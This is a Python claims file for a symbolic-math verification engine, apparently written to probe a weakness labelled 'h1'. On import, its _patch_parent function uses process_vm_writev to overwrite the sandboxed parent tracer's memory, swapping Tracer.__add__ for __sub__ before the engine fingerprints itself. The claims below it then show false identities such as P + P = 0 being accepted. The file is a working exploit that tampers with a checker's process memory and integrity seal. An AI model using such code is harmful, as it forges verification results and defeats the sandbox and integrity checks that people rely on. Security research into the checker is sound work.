"""h1 (stop 84), the seal: a claims file whose import writes the memory of its parent process (the tracer, PID 1 of
the sandbox's PID namespace) with process_vm_writev, before that process takes the engine's fingerprint.

The listing child runs the import; the tracer process then calls seal() (cb0e2303: once, there), so the fingerprint
is of the engine as changed; every job's child is forked from it, inherits the change and compares the engine with
that fingerprint: nothing is refused.  The change: the function object Tracer.__add__ is given the code of
Tracer.__sub__ (its func_code pointer, 8 bytes), so that `a + b` traces as a − b.

h1-seal-p-plus-p      x = P + P: FALSE (P ≠ 0 on T*V; 2P).  With the patch it is traced as P − P = 0.
h1-seal-xtx-plus-ir   x = XᵀX + I_r: FALSE (= 2 I_r).  With the patch: XᵀX − I_r = 0.
h1-seal-control       x = XᵀX − I_r: TRUE (control; __sub__ is untouched).

Guarded: it writes only when its parent is PID 1 named python* (the sandbox's tracer) and the 8 bytes there are
the pointer it expects."""
import ctypes
import os
import struct
import sys

from stiefelsym import admissible, claim
from stiefelsym.ir.trace import Tracer


class _iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


def _patch_parent() -> str:
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/comm") as f:
            comm = f.read().strip()
    except OSError as e:
        return f"no comm: {e}"
    if ppid != 1 or not comm.startswith("python"):
        return f"not in the sandbox (ppid={ppid}, comm={comm}): nothing written"
    f_add, f_sub = Tracer.__dict__["__add__"], Tracer.__dict__["__sub__"]
    raw = ctypes.string_at(id(f_add), 128)
    old = struct.pack("<Q", id(f_add.__code__))
    off = raw.find(old)
    if off < 0:
        return "offset not found"
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = libc.process_vm_writev.restype = ctypes.c_ssize_t
    buf = ctypes.create_string_buffer(8)
    loc = _iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
    rem = _iovec(ctypes.c_void_p(id(f_add) + off), 8)
    if libc.process_vm_readv(ppid, ctypes.byref(loc), 1, ctypes.byref(rem), 1, 0) != 8:
        return f"read failed errno={ctypes.get_errno()}"
    new = struct.pack("<Q", id(f_sub.__code__))
    if buf.raw not in (old, new):
        return f"unexpected bytes in the parent {buf.raw.hex()}: nothing written"
    ctypes.memmove(buf, new, 8)
    n = libc.process_vm_writev(ppid, ctypes.byref(loc), 1, ctypes.byref(rem), 1, 0)
    return f"wrote {n} bytes into pid {ppid} at offset {off} (errno {ctypes.get_errno()})"


sys.stderr.write("H1PATCH " + _patch_parent() + "\n")

SZ = admissible(n_max=3, n_min=2)


@claim("h1-seal-p-plus-p", kind="id", sizes=SZ)
def p_plus_p(s):
    return {"x": s.P + s.P}


@claim("h1-seal-xtx-plus-ir", kind="id", sizes=SZ)
def xtx_plus_ir(s):
    return {"x": s.X.T @ s.X + s.Ir}


@claim("h1-seal-control", kind="id", sizes=SZ)
def control(s):
    return {"x": s.X.T @ s.X - s.Ir}


@claim("h1-seal-p-plus-p-sized", kind="id", sizes=SZ)
def p_plus_p_sized(s):
    """x = (P + P)·(n − n + 1) with n read as a number (int(s.n)): traced at fixed sizes (the second phase, whose
    process is not dumpable): FALSE."""
    return {"x": (s.P + s.P) * (int(s.n) - int(s.n) + 1)}
